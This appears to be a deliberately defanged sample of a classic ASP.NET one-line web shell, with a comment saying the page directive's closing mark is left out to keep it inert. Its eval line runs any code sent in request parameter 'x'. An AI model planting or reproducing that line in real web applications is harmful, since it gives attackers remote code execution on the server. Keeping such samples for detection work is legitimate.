<%-- inert sample: the closing mark of the page directive is left out --%>
<%@ Page Language="Jscript" 
<% eval(Request.Item["x"],"unsafe"); 
